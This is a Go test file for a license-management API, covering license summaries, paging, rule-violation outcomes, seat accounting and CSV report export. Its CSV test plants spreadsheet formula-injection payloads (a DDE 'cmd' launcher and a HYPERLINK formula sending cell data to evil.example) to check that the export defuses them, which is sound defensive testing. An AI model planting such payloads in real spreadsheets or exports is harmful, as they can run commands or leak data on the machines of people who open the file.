package api_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/licenseops/licenseops/internal/testapp"
)

type summary struct {
	Users []struct {
		ID          string `json:"id"`
		DisplayName string `json:"display_name"`
	} `json:"users"`
	Products []struct {
		SKU             string   `json:"sku_id"`
		Name            string   `json:"name"`
		Total           int      `json:"total"`
		Available       int      `json:"available"`
		State           string   `json:"state"`
		AssignedUserIDs []string `json:"assigned_user_ids"`
		BuyMoreURL      *string  `json:"buy_more_url"`
	} `json:"products"`
}

func assign(t *testing.T, c *testapp.Client, customer string, users, skus []string) {
	t.Helper()
	var acc struct{ ID string }
	c.Must(http.StatusAccepted, "POST", "/v1/customers/"+customer+"/license-operations",
		map[string]any{"user_ids": users, "assign": skus}).JSON(t, &acc)
	if op := c.WaitOperation(acc.ID, 30*time.Second); op.Failed != 0 {
		t.Fatalf("setup assignment failed: %+v", op)
	}
}

// Three users where one, two and all three hold different SKUs.
func TestLicenseSummaryTriState(t *testing.T) {
	t.Parallel()
	b := testapp.New(t, testapp.Options{Workers: 1})
	c := b.Client("p", "helpdesk_agent")
	admin := b.Client("p", "global_admin")
	tn := seedTenant(t, admin, "tri", 3, map[string]int{"E5": 3, "PBI": 10, "PROJECT": 2, "E3": 5})
	u := tn.users // display names: u00000 → "User 00003", u00001 → "User 00002", u00002 → "User 00001"
	assign(t, c, "tri", u, []string{"E5"})
	assign(t, c, "tri", u[:2], []string{"PBI"})
	assign(t, c, "tri", u[2:], []string{"PROJECT"})
	var s summary
	c.Must(200, "POST", "/v1/customers/tri/license-summary", map[string]any{"user_ids": []string{u[0], u[1], u[2], u[0]}}).JSON(t, &s)
	if got := []string{s.Users[0].ID, s.Users[1].ID, s.Users[2].ID}; !slices.Equal(got, []string{u[2], u[1], u[0]}) || len(s.Users) != 3 {
		t.Fatalf("users not sorted by display name: %+v", s.Users)
	}
	want := map[string]struct {
		state   string
		holders []string
		avail   int
		buyMore bool
	}{
		"E3":      {"none", []string{}, 5, false},
		"E5":      {"all", []string{u[0], u[1], u[2]}, 0, true},
		"PBI":     {"some", []string{u[0], u[1]}, 8, false},
		"PROJECT": {"some", []string{u[2]}, 1, false},
	}
	if len(s.Products) != len(want) {
		t.Fatalf("products = %+v", s.Products)
	}
	for _, p := range s.Products {
		w := want[p.SKU]
		if p.State != w.state || !slices.Equal(p.AssignedUserIDs, w.holders) || p.Available != w.avail || (p.BuyMoreURL != nil) != w.buyMore {
			t.Errorf("%s = %+v, want %+v", p.SKU, p, w)
		}
	}
	if r := c.Do("POST", "/v1/customers/tri/license-summary", map[string]any{"user_ids": []string{"nobody"}}); r.Status != 422 || r.ErrorCode() != "UnknownUsers" {
		t.Fatalf("unknown user: %d %s", r.Status, r.Body)
	}
}

func TestUserPaging(t *testing.T) {
	t.Parallel()
	b := testapp.New(t, testapp.Options{})
	c := b.Client("p", "reader")
	admin := b.Client("p", "global_admin")
	tn := seedTenant(t, admin, "pages", 7, nil)
	type page struct {
		Users []struct {
			ID          string   `json:"id"`
			DisplayName string   `json:"display_name"`
			Licenses    []string `json:"licenses"`
		}
		Page       int `json:"page"`
		PageSize   int `json:"page_size"`
		Total      int `json:"total"`
		TotalPages int `json:"total_pages"`
		Links      struct {
			First, Last string
			Prev, Next  *string
		}
	}
	var seen []string
	path := "/v1/customers/pages/users?page_size=3"
	for n := 1; ; n++ {
		var p page
		c.Must(200, "GET", path, nil).JSON(t, &p)
		if p.Page != n || p.PageSize != 3 || p.Total != 7 || p.TotalPages != 3 {
			t.Fatalf("page %d = %+v", n, p)
		}
		if (p.Links.Prev == nil) != (n == 1) || !strings.Contains(p.Links.First, "page=1") || !strings.Contains(p.Links.Last, "page=3") {
			t.Fatalf("links of page %d = %+v", n, p.Links)
		}
		for _, u := range p.Users {
			seen = append(seen, u.DisplayName)
		}
		if p.Links.Next == nil {
			if n != 3 {
				t.Fatalf("next is null on page %d of 3", n)
			}
			break
		}
		path = *p.Links.Next
	}
	if len(seen) != 7 || !slices.IsSorted(seen) {
		t.Fatalf("paged through %v, want 7 sorted names", seen)
	}
	var q page
	c.Must(200, "GET", "/v1/customers/pages/users?q=user%2000003", nil).JSON(t, &q)
	if q.Total != 1 || q.Users[0].DisplayName != "User 00003" {
		t.Fatalf("search = %+v", q)
	}
	c.Must(200, "GET", "/v1/customers/pages/users?q="+tn.users[0]+"%40example", nil).JSON(t, &q)
	if q.Total != 1 || q.Users[0].ID != tn.users[0] {
		t.Fatalf("search by principal name = %+v", q)
	}
	for _, bad := range []string{"page=0", "page=x", "page_size=0", "page_size=501"} {
		if r := c.Do("GET", "/v1/customers/pages/users?"+bad, nil); r.Status != 400 || r.ErrorCode() != "InvalidRequest" {
			t.Errorf("%s: %d %s", bad, r.Status, r.Body)
		}
	}
}

// One operation over users that fail for each rule while the others succeed.
func TestMixedOutcomes(t *testing.T) {
	t.Parallel()
	b := testapp.New(t, testapp.Options{Workers: 1})
	c := b.Client("p", "global_admin")
	c.Must(200, "PUT", "/v1/products/E3", map[string]any{"name": "E3", "excludes": []string{"E5"}})
	c.Must(200, "PUT", "/v1/products/E5", map[string]any{"name": "E5", "prohibited_locations": []string{"CN"}})
	c.Must(200, "PUT", "/v1/products/VISIO", map[string]any{"name": "Visio", "requires": []string{"E5"}})
	c.Must(200, "PUT", "/v1/products/KIOSK", map[string]any{"name": "Kiosk", "excludes": []string{"VISIO"}})
	c.Must(201, "POST", "/v1/customers", map[string]any{"id": "mixed", "name": "Mixed"}) // no default location
	loc := func(s string) *string { return &s }
	no := false
	users := []map[string]any{
		{"id": "ok1", "user_principal_name": "ok1@x", "display_name": "A ok", "usage_location": "PL"},
		{"id": "swap", "user_principal_name": "swap@x", "display_name": "B swap", "usage_location": "PL"},
		{"id": "cn", "user_principal_name": "cn@x", "display_name": "C china", "usage_location": loc("CN")},
		{"id": "noloc", "user_principal_name": "noloc@x", "display_name": "D no location"},
		{"id": "off", "user_principal_name": "off@x", "display_name": "E disabled", "usage_location": "PL", "account_enabled": no},
		{"id": "kiosk", "user_principal_name": "kiosk@x", "display_name": "F kiosk", "usage_location": "PL"},
	}
	c.Must(200, "POST", "/v1/customers/mixed/users/import", map[string]any{"users": users})
	for sku, n := range map[string]int{"E3": 10, "E5": 10, "VISIO": 10, "KIOSK": 10} {
		c.Must(200, "PUT", "/v1/customers/mixed/subscriptions/"+sku, map[string]int{"total": n})
	}
	assign(t, c, "mixed", []string{"swap"}, []string{"E3"})
	assign(t, c, "mixed", []string{"kiosk"}, []string{"KIOSK"})
	var acc struct{ ID string }
	c.Must(202, "POST", "/v1/customers/mixed/license-operations", map[string]any{
		"user_ids": []string{"ok1", "swap", "cn", "noloc", "off", "kiosk"}, "assign": []string{"E5", "VISIO"}, "revoke": []string{"E3"},
	}).JSON(t, &acc)
	op := c.WaitOperation(acc.ID, 30*time.Second)
	var rep report
	c.Must(200, "GET", "/v1/operations/"+op.ID+"/report", nil).JSON(t, &rep)
	want := map[string]struct {
		code     string
		licenses string
		says     []string
	}{
		"ok1":   {"", "E5,VISIO", nil},
		"swap":  {"", "E5,VISIO", nil},
		"cn":    {"ProhibitedInUsageLocationViolation", "", []string{"E5", "CN"}},
		"noloc": {"UsageLocationMissing", "", nil},
		"off":   {"UserDisabled", "", nil},
		"kiosk": {"MutuallyExclusiveViolation", "KIOSK", []string{"KIOSK", "VISIO"}},
	}
	for _, row := range rep.Results {
		w := want[row.UserID]
		code := ""
		if row.Error != nil {
			code = row.Error.Code
			for _, s := range w.says {
				if !strings.Contains(row.Error.Message, s) {
					t.Errorf("%s: message %q does not name %s", row.UserID, row.Error.Message, s)
				}
			}
		}
		if code != w.code || strings.Join(row.Licenses, ",") != w.licenses {
			t.Errorf("%s: code %q licenses %v, want %q %q", row.UserID, code, row.Licenses, w.code, w.licenses)
		}
	}
	if op.Succeeded != 2 || op.Failed != 4 || op.Status != "completed_with_errors" {
		t.Fatalf("operation = %+v", op)
	}
	subs := subscriptions(t, c, "mixed")
	if subs["E5"].Consumed != 2 || subs["VISIO"].Consumed != 2 || subs["E3"].Consumed != 0 || subs["KIOSK"].Consumed != 1 {
		t.Fatalf("subscriptions = %+v", subs)
	}
	checkSeatInvariant(t, b)

	// The operation's usage location is applied before the rules and recorded.
	c.Must(202, "POST", "/v1/customers/mixed/license-operations", map[string]any{
		"user_ids": []string{"cn", "noloc"}, "assign": []string{"E5"}, "usage_location": "de",
	}).JSON(t, &acc)
	op = c.WaitOperation(acc.ID, 30*time.Second)
	if op.Succeeded != 2 {
		t.Fatalf("with usage_location DE: %+v", op)
	}
	var u struct {
		UsageLocation string   `json:"usage_location"`
		Licenses      []string `json:"licenses"`
	}
	c.Must(200, "GET", "/v1/customers/mixed/users/cn", nil).JSON(t, &u)
	if u.UsageLocation != "DE" || !slices.Equal(u.Licenses, []string{"E5"}) {
		t.Fatalf("user cn = %+v", u)
	}
	// PATCH the location and see a bad one refused.
	c.Must(200, "PATCH", "/v1/customers/mixed/users/cn", map[string]any{"usage_location": "fr"}).JSON(t, &u)
	if u.UsageLocation != "FR" {
		t.Fatalf("after PATCH: %+v", u)
	}
	if r := c.Do("PATCH", "/v1/customers/mixed/users/cn", map[string]any{"usage_location": "ZZ"}); r.Status != 400 {
		t.Fatalf("bad location: %d", r.Status)
	}
	// Seats can be raised but not set below what is consumed.
	if r := c.Do("PUT", "/v1/customers/mixed/subscriptions/E5", map[string]int{"total": 1}); r.Status != 409 || r.ErrorCode() != "SeatsInUse" {
		t.Fatalf("total below consumed: %d %s", r.Status, r.Body)
	}
}

// A 10,000-user selection is summarized in a few queries.
func TestLicenseSummaryLargeSelection(t *testing.T) {
	t.Parallel()
	b := testapp.New(t, testapp.Options{Workers: 1})
	c := b.Client("p", "global_admin")
	tn := seedTenant(t, c, "large", 10_000, map[string]int{"E5": 10_000, "E3": 100})
	assign(t, c, "large", tn.users[:6000], []string{"E5"})
	start := time.Now()
	var s summary
	c.Must(200, "POST", "/v1/customers/large/license-summary", map[string]any{"user_ids": tn.users}).JSON(t, &s)
	t.Logf("summary of 10,000 users took %v", time.Since(start))
	if len(s.Users) != 10_000 {
		t.Fatalf("%d users", len(s.Users))
	}
	for _, p := range s.Products {
		switch p.SKU {
		case "E5":
			if p.State != "some" || len(p.AssignedUserIDs) != 6000 || p.Available != 4000 {
				t.Fatalf("E5 = %s %d %d", p.State, len(p.AssignedUserIDs), p.Available)
			}
		case "E3":
			if p.State != "none" || len(p.AssignedUserIDs) != 0 {
				t.Fatalf("E3 = %+v", p)
			}
		}
	}
}

// The CSV report defuses spreadsheet formulas in every free-text cell: user
// and SKU IDs (clients choose them, and '=' is allowed), names from the
// directory, and error messages.
func TestReportCSVDefusesFormulas(t *testing.T) {
	t.Parallel()
	b := testapp.New(t, testapp.Options{Workers: 1})
	c := b.Client("p", "global_admin")
	c.Must(200, "PUT", "/v1/products/=E5", map[string]any{"name": "E5"})
	c.Must(201, "POST", "/v1/customers", map[string]any{"id": "csv", "name": "CSV", "default_usage_location": "PL"})
	no := false
	c.Must(200, "POST", "/v1/customers/csv/users/import", map[string]any{"users": []map[string]any{
		{"id": "=cmd|'-Ccalc'!A0", "user_principal_name": "+upn@x", "display_name": "@SUM(1+1)"},
		{"id": "-neg", "user_principal_name": "neg@x", "display_name": "\tTabbed"},
		{"id": "plain", "user_principal_name": "plain@x", "display_name": "Plain", "account_enabled": no},
	}})
	c.Must(200, "PUT", "/v1/customers/csv/subscriptions/=E5", map[string]int{"total": 5})
	var acc struct{ ID string }
	c.Must(202, "POST", "/v1/customers/csv/license-operations", map[string]any{
		"user_ids": []string{"=cmd|'-Ccalc'!A0", "-neg", "plain"}, "assign": []string{"=E5"},
	}).JSON(t, &acc)
	if op := c.WaitOperation(acc.ID, 30*time.Second); op.Succeeded != 2 || op.Failed != 1 {
		t.Fatalf("operation = %+v, want 2 succeeded and plain failed", op)
	}
	// No rule writes a message that starts with a formula character today;
	// the report must defuse one all the same.
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	if _, err := b.DB.Exec(`UPDATE operation_items SET error_message = $2 WHERE operation_id = $1 AND user_id = 'plain'`, acc.ID, evil); err != nil {
		t.Fatal(err)
	}
	resp := c.Must(200, "GET", "/v1/operations/"+acc.ID+"/report?format=csv", nil)
	records, err := csv.NewReader(bytes.NewReader(resp.Body)).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v", err)
	}
	if len(records) != 4 {
		t.Fatalf("%d records, want a header and 3 rows:\n%s", len(records), resp.Body)
	}
	col := map[string]int{}
	for i, name := range records[0] {
		col[name] = i
	}
	rows := map[string][]string{}
	for _, rec := range records[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("cell %s of %q starts with a formula character: %q", records[0][i], rec[0], cell)
			}
		}
		rows[strings.TrimPrefix(rec[0], "'")] = rec
	}
	want := map[string]map[string]string{
		"=cmd|'-Ccalc'!A0": {"user_id": "'=cmd|'-Ccalc'!A0", "display_name": "'@SUM(1+1)", "user_principal_name": "'+upn@x",
			"assigned": "'=E5", "licenses": "'=E5", "status": "succeeded", "usage_location": "PL"},
		"-neg":  {"user_id": "'-neg", "display_name": "'\tTabbed", "licenses": "'=E5"},
		"plain": {"user_id": "plain", "display_name": "Plain", "licenses": "", "error_code": "UserDisabled", "error_message": "'" + evil},
	}
	for id, cells := range want {
		rec, ok := rows[id]
		if !ok {
			t.Errorf("no row for %q", id)
			continue
		}
		for name, v := range cells {
			if got := rec[col[name]]; got != v {
				t.Errorf("%s of %q = %q, want %q", name, id, got, v)
			}
		}
	}
	// The JSON report carries the values as they are: JSON is not a spreadsheet.
	var rep report
	c.Must(200, "GET", "/v1/operations/"+acc.ID+"/report", nil).JSON(t, &rep)
	for _, row := range rep.Results {
		if row.UserID == "-neg" && (row.DisplayName != "\tTabbed" || strings.Join(row.Licenses, ",") != "=E5") {
			t.Errorf("JSON row = %+v", row)
		}
	}
}

// userRecord is what Postgres says a user is: usage location ("" for
// none) and licenses.
type userRecord struct {
	Location string
	Licenses string // sorted, comma-separated
}

func (u userRecord) String() string {
	return "location " + strconv.Quote(u.Location) + " licenses [" + u.Licenses + "]"
}

// userRecords reads every user of a customer straight from Postgres.
func userRecords(t *testing.T, b *testapp.Bundle, customer string) map[string]userRecord {
	t.Helper()
	rows, err := b.DB.Query(`
		SELECT u.id, COALESCE(u.usage_location, ''), COALESCE(string_agg(a.sku_id, ',' ORDER BY a.sku_id), '')
		FROM users u JOIN customers c ON c.customer_key = u.customer_key
		LEFT JOIN assignments a ON a.customer_key = u.customer_key AND a.user_id = u.id
		WHERE c.id = $1 GROUP BY u.id, u.usage_location`, customer)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	out := map[string]userRecord{}
	for rows.Next() {
		var id string
		var r userRecord
		if err := rows.Scan(&id, &r.Location, &r.Licenses); err != nil {
			t.Fatal(err)
		}
		out[id] = r
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// outcomeCase is what one user of a mixed operation must end with.
type outcomeCase struct {
	code string   // "" for success
	says []string // what the message must name
	// On success: licenses and usage location after (nil: unchanged).
	licenses string
	location string
}

// runMixed runs one operation and checks every user's outcome: the failed
// are exactly as they were in Postgres (licenses and usage location), the
// succeeded hold what want says. contenders are users that pass every rule
// but compete for seats: exactly seatsLeft of them succeed, the others fail
// with CountViolation.
func runMixed(t *testing.T, b *testapp.Bundle, c *testapp.Client, customer string, body map[string]any,
	want map[string]outcomeCase, contenders []string, seatsLeft int, onSeat outcomeCase) {
	t.Helper()
	before := userRecords(t, b, customer)
	var acc struct{ ID string }
	c.Must(202, "POST", "/v1/customers/"+customer+"/license-operations", body).JSON(t, &acc)
	op := c.WaitOperation(acc.ID, 30*time.Second)
	var rep report
	c.Must(200, "GET", "/v1/operations/"+op.ID+"/report", nil).JSON(t, &rep)
	after := userRecords(t, b, customer)

	rows := map[string]reportRow{}
	for _, row := range rep.Results {
		rows[row.UserID] = row
	}
	if len(rows) != len(want)+len(contenders) {
		t.Fatalf("report has %d users, want %d: %+v", len(rows), len(want)+len(contenders), rep.Results)
	}
	got := 0
	for _, u := range contenders {
		if rows[u].Error == nil {
			got++
			want[u] = onSeat
		} else {
			want[u] = outcomeCase{code: "CountViolation", says: onSeat.says}
		}
	}
	if got != seatsLeft {
		t.Errorf("%d of the contenders %v got a seat, want %d (as many as were left)", got, contenders, seatsLeft)
	}
	failed := 0
	for u, w := range want {
		row := rows[u]
		code, msg := "", ""
		if row.Error != nil {
			code, msg = row.Error.Code, row.Error.Message
		}
		if code != w.code {
			t.Errorf("%s: %q (%s), want %q", u, code, msg, w.code)
			continue
		}
		for _, s := range w.says {
			if code != "" && !strings.Contains(msg, s) {
				t.Errorf("%s: message %q does not name %s", u, msg, s)
			}
		}
		if code != "" {
			failed++
			// All or nothing: a failed user is exactly as before.
			if after[u] != before[u] || row.Status != "failed" || len(row.Assigned)+len(row.Revoked) != 0 {
				t.Errorf("%s failed with %s but changed: %v -> %v (report %+v)", u, code, before[u], after[u], row)
			}
			continue
		}
		wantRec := userRecord{Location: before[u].Location, Licenses: w.licenses}
		if w.location != "" {
			wantRec.Location = w.location
		}
		if after[u] != wantRec || row.Status != "succeeded" || strings.Join(row.Licenses, ",") != w.licenses {
			t.Errorf("%s succeeded as %v (report %+v), want %v", u, after[u], row, wantRec)
		}
	}
	if op.Failed != failed || op.Succeeded != len(rows)-failed || op.Status != "completed_with_errors" {
		t.Errorf("operation = %+v, want %d failed", op, failed)
	}
	checkSeatInvariant(t, b)
}

// One operation in which users fail with every per-user code the local
// directory produces (all but ProviderThrottled and ProviderError, which
// only an external directory raises), the others succeed, and the failed
// are left exactly as they were; then the same with the operation setting
// a usage location, which the failed must not get either.
func TestMixedOutcomesEveryCode(t *testing.T) {
	t.Parallel()
	b := testapp.New(t, testapp.Options{Workers: 1})
	c := b.Client("p", "global_admin")
	for sku, rules := range map[string]map[string]any{
		"E3":      {"excludes": []string{"E5"}},
		"E5":      {"prohibited_locations": []string{"CN"}},
		"VISIO":   {"requires": []string{"E5"}},
		"KIOSK":   {"excludes": []string{"VISIO"}},
		"BASE":    {},
		"ADDON":   {"requires": []string{"BASE"}},
		"LIMITED": {},
	} {
		rules["name"] = sku
		c.Must(200, "PUT", "/v1/products/"+sku, rules)
	}
	c.Must(201, "POST", "/v1/customers", map[string]any{"id": "every", "name": "Every code"}) // no default location
	no := false
	user := func(id, loc string) map[string]any {
		u := map[string]any{"id": id, "user_principal_name": id + "@x", "display_name": id}
		if loc != "" {
			u["usage_location"] = loc
		}
		return u
	}
	off := user("off", "PL")
	off["account_enabled"] = no
	c.Must(200, "POST", "/v1/customers/every/users/import", map[string]any{"users": []map[string]any{
		user("ok1", "PL"), user("ok2", "PL"), user("swap", "PL"), user("ok3", "US"),
		user("cn", "CN"), user("noloc", ""), off, user("kiosk", "PL"), user("dep", "PL"),
	}})
	for sku, n := range map[string]int{"E3": 10, "E5": 10, "VISIO": 10, "KIOSK": 10, "BASE": 10, "ADDON": 10, "LIMITED": 3} {
		c.Must(200, "PUT", "/v1/customers/every/subscriptions/"+sku, map[string]int{"total": n})
	}
	assign(t, c, "every", []string{"swap"}, []string{"E3"})
	assign(t, c, "every", []string{"kiosk"}, []string{"KIOSK"})
	assign(t, c, "every", []string{"dep"}, []string{"BASE", "ADDON"})

	// Assign E5, VISIO and LIMITED; revoke E3 and BASE. LIMITED has 3 seats
	// for the 4 users that pass every rule. Those users come first: intake
	// grants seats in list order before any rule is checked, and a batch
	// does not pass on the seat granted to a user who then fails a rule.
	runMixed(t, b, c, "every", map[string]any{
		"user_ids":      []string{"ok1", "ok2", "swap", "ok3", "cn", "noloc", "off", "kiosk", "dep"},
		"assign":        []string{"E5", "VISIO", "LIMITED"},
		"revoke":        []string{"E3", "BASE"},
		"allow_partial": true,
	}, map[string]outcomeCase{
		"cn":    {code: "ProhibitedInUsageLocationViolation", says: []string{`"E5"`, `"CN"`}},
		"noloc": {code: "UsageLocationMissing", says: []string{`"E5"`, `"LIMITED"`, `"VISIO"`}},
		"off":   {code: "UserDisabled", says: []string{`"E5"`, `"LIMITED"`, `"VISIO"`}},
		"kiosk": {code: "MutuallyExclusiveViolation", says: []string{`"KIOSK"`, `"VISIO"`}},
		"dep":   {code: "DependencyViolation", says: []string{`"ADDON"`, `"BASE"`}},
	}, []string{"ok1", "ok2", "swap", "ok3"}, 3, outcomeCase{licenses: "E5,LIMITED,VISIO", says: []string{"LIMITED"}})
	subs := subscriptions(t, c, "every")
	e3 := 0 // swap keeps E3 if it is the one left without a seat
	if strings.Contains(userRecords(t, b, "every")["swap"].Licenses, "E3") {
		e3 = 1
	}
	for sku, n := range map[string]int{"E5": 3, "VISIO": 3, "LIMITED": 3, "E3": e3, "KIOSK": 1, "BASE": 1, "ADDON": 1} {
		if subs[sku].Consumed != n || subs[sku].Available != subs[sku].Total-n {
			t.Errorf("%s = %+v, want %d consumed", sku, subs[sku], n)
		}
	}

	// Now with usage_location DE: those who succeed move to DE, the failed
	// keep theirs. One E5 seat is left for the two users who pass every
	// rule; the one who fails with CountViolation keeps no location too.
	c.Must(200, "PUT", "/v1/customers/every/subscriptions/E5", map[string]int{"total": 4})
	runMixed(t, b, c, "every", map[string]any{
		"user_ids":       []string{"cn", "noloc", "off", "kiosk", "dep"},
		"assign":         []string{"E5", "VISIO"},
		"revoke":         []string{"BASE"},
		"usage_location": "DE",
		"allow_partial":  true,
	}, map[string]outcomeCase{
		"off":   {code: "UserDisabled", says: []string{`"E5"`, `"VISIO"`}},
		"kiosk": {code: "MutuallyExclusiveViolation", says: []string{`"KIOSK"`, `"VISIO"`}},
		"dep":   {code: "DependencyViolation", says: []string{`"ADDON"`, `"BASE"`}},
	}, []string{"cn", "noloc"}, 1, outcomeCase{licenses: "E5,VISIO", location: "DE", says: []string{"E5"}})
	if subs := subscriptions(t, c, "every"); subs["E5"].Consumed != 4 || subs["E5"].Available != 0 {
		t.Errorf("E5 after the second operation: %+v", subs["E5"])
	}
}
